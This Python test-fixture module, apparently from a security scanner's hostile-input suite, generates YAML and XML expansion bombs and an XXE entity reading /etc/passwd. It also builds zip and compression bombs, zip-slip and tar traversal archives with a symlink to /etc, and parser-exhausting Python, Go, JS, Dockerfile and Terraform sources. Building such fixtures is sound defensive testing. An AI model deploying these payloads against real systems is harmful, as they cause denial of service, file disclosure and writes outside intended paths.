"""Repositories of files that are small and grow when they are read: YAML, JSON, XML, archives, expressions."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from tests.hostile.corpus import FULL, SECRET, Ground, planted
from tests.hostile.corpus_tools import DOCKERFILE, TEMPLATE, WORKFLOW
from tests.hostile.repositories import POD, PYTHON, TERRAFORM

_ZEROS = 1024**3 if FULL else 32 * 1024**2
#: Nine times nine times … a letter: half a kilobyte that is a thousand million letters.
LAUGHS = b"a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"a%d: &a%d [%s]\n" % (n, n, b",".join([b"*a%d" % (n - 1)] * 9)) for n in range(1, 10)
)
_DEEP = b"[" * 20_000 + b"]" * 20_000
_MERGES = b"m0: &m0 {k: 1}\n" + b"".join(
    b"m%d: &m%d {<<: [%s]}\n" % (n, n, b",".join([b"*m%d" % (n - 1)] * 9)) for n in range(1, 9)
)


def yaml(ground: Ground) -> None:
    """Aliases of aliases, merges of merges and brackets in brackets, wherever a tool reads YAML."""
    good = {
        "good/.github/workflows/ci.yml": WORKFLOW,
        "good/template.yaml": TEMPLATE,
        "good/pod.yaml": POD,
        "good/main.tf": TERRAFORM,
    }
    bombs: dict[str, bytes] = {}
    kinds = {"laughs": LAUGHS, "merges": _MERGES, "deep": b"deep: " + _DEEP + b"\n"}
    for kind, bomb in kinds.items():
        if kind == "deep" and not FULL:
            continue
        bombs[f"{kind}/.github/workflows/ci.yml"] = WORKFLOW + bomb
        bombs[f"{kind}/docker-compose.yml"] = b"services: {}\n" + bomb
        # checkov works on these until it is stopped, or its process ends: narrowing that down takes minutes.
        if not FULL:
            continue
        bombs[f"{kind}/template.yaml"] = (
            TEMPLATE + b"Mappings:\n" + b"".join(b"  " + line + b"\n" for line in bomb.splitlines())
        )
        bombs[f"{kind}/pod.yaml"] = POD + bomb
    if FULL:
        bombs["deep/template.json"] = b'{"AWSTemplateFormatVersion": "2010-09-09", "Resources": ' + _DEEP + b"}"
        bombs["deep/pod.json"] = b'{"apiVersion": "v1", "kind": "Pod", "spec": ' + _DEEP + b"}"
    planted(ground.repository("yaml-bombs"), {**good, **bombs})


def xml(ground: Ground) -> None:
    """Entities of entities, and entities that are files of the machine or addresses."""
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">' + entities
    head += f'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "{ground.url}/x.dtd">'.encode()
    bomb = head + b"]><project><version>&e11;&file;&net;</version></project>"
    names = ("pom.xml", "web.config", "app.config", "packages.config", "x.csproj", "logo.svg", "Info.plist")
    planted(ground.repository("xml-bombs"), dict.fromkeys(names, bomb))


def archives(ground: Ground) -> None:
    """Archives of gigabytes of zeros, of archives, of entries that share their bytes, and of paths that lead out."""
    zeros = b"\0" * _ZEROS
    nested = _zip({f"{n}.bin": zeros[: _ZEROS // 4] for n in range(4)})
    for _ in range(4):
        nested = _zip({f"{n}.zip": nested for n in range(6)})
    trip = ground.shell("zip-slip").split("}", 1)[1]
    up = "../" * 12 + trip.lstrip("/")
    files = {
        "huge.zip": _zip({"zeros.bin": zeros}),
        "nested.zip": nested,
        "overlapping.zip": _overlapping(2_000 if FULL else 200),
        "slip.zip": _zip({up: b"x", trip: b"x", "..\\..\\x": b"x", "inner.txt": SECRET + b"# in a zip\n"}),
        "slip.tar.gz": _tar(up, trip),
        "huge.gz": gzip.compress(zeros),
        "huge.bz2": bz2.compress(zeros),
        "huge.xz": lzma.compress(zeros),
        "twice.gz": gzip.compress(gzip.compress(zeros)),
        "lying.zip": _zip({"x.txt": b"x" * 100}).replace(struct.pack("<I", 100), struct.pack("<I", 0xFFFFFFF0)),
        "cut.zip": _zip({"x.txt": bytes(range(256)) * 40})[:200],
        "app.jar": _zip({"zeros.class": zeros}),
        "no-suffix": _zip({"zeros.bin": zeros[: 1024**2], "deep.txt": SECRET + b"# in a zip without a suffix\n"}),
    }
    planted(ground.repository("archives"), files)


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def _overlapping(count: int) -> bytes:
    """Many entries of the central directory that all name the same bytes (APPNOTE.TXT, 4.3)."""
    body = b"\0" * (4 * 1024**2)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(body) + packer.flush()
    sizes = struct.pack("<III", zlib.crc32(body), len(packed), len(body))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 1, 0) + b"a" + packed
    entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
    entry += struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + end


def _tar(*names: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name in names:
            member = tarfile.TarInfo(name)
            member.size = 1
            archive.addfile(member, io.BytesIO(b"x"))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
        pipe = tarfile.TarInfo("pipe")
        pipe.type = tarfile.FIFOTYPE
        archive.addfile(pipe)
    return out.getvalue()


def code(ground: Ground) -> None:
    """Source that grows or sinks deep while it is parsed, beside source with a flaw."""
    flaw = b"# code-bombs\n" + PYTHON
    files = {
        "good.py": flaw,
        "deep.py": b"x = " + b"(" * 20_000 + b")" * 20_000 + b"\n" + flaw,
        "indent.py": b"".join(b" " * n + b"if x:\n" for n in range(90)) + b" " * 90 + b"pass\n" + flaw,
        "power.py": b"x = 9**9**9**9\ny = 'a' * 10**10\n" + flaw,
        "line.py": b"x = '" + b"a" * 900_000 + b"'\n" + flaw,
        "Dockerfile": DOCKERFILE + b"RUN true" + b" && \\\n  true" * 200 + b"\n",
    }
    planted(ground.repository("code-bombs"), files)


def endless_code(ground: Ground) -> None:
    """Source that tools work on until they are stopped, beside source with a flaw."""
    flaw = b"# endless-code\n" + PYTHON
    files = {
        "good.py": flaw,
        "unary.py": b"x = " + b"-" * 100_000 + b"1\n" + flaw,
        "chain.py": b"x = 1" + b" + 1" * 50_000 + b"\n" + flaw,
        "calls.py": b"f" + b"()" * 20_000 + b"\n" + flaw,
        "deep.js": b"x = " + b"[" * 20_000 + b"]" * 20_000 + b";\n",
        "deep.go": b"package x\nvar y = " + b"(" * 10_000 + b"1" + b")" * 10_000 + b"\n",
        "Dockerfile": DOCKERFILE,
        "deep/Dockerfile": DOCKERFILE + b"RUN " + b"$(" * 2_000 + b"true" + b")" * 2_000 + b"\n",
    }
    planted(ground.repository("endless-code"), files)


def terraform(ground: Ground) -> None:
    """Modules that hold themselves, locals that name each other."""
    more = {
        "loop.tf": b"locals {\n  x = local.y\n  y = local.x\n}\n",
        "self/main.tf": b'module "a" { source = "./" }\nmodule "b" { source = "../self" }\n',
    }
    planted(ground.repository("terraform-bombs"), {"good/main.tf": b"# terraform-bombs\n" + TERRAFORM, **more})


def endless_terraform(ground: Ground) -> None:
    """Expressions that a reader must not work out, more resources than can be."""
    grow = b"".join(b'  g%d = "%s"\n' % (n, b"${local.g%d}" % (n - 1) * 10) for n in range(1, 12))
    more = {
        "count.tf": b'resource "aws_s3_bucket" "many" { count = 1000000000 }\n',
        "power.tf": b'locals { a = "${9 ** 9 ** 9}", b = pow(9, 999999999) }\n',
        "range.tf": b"locals { r = range(1000000000)\n s = [for i in range(1000000000) : i]\n }\n",
        "grow.tf": b'locals {\n  g0 = "xxxxxxxxxx"\n' + grow + b"}\n",
        "deep.tf": b"locals { d = " + b"[" * 3_000 + b"]" * 3_000 + b" }\n",
    }
    planted(ground.repository("endless-terraform"), {"good/main.tf": b"# endless-tf\n" + TERRAFORM, **more})
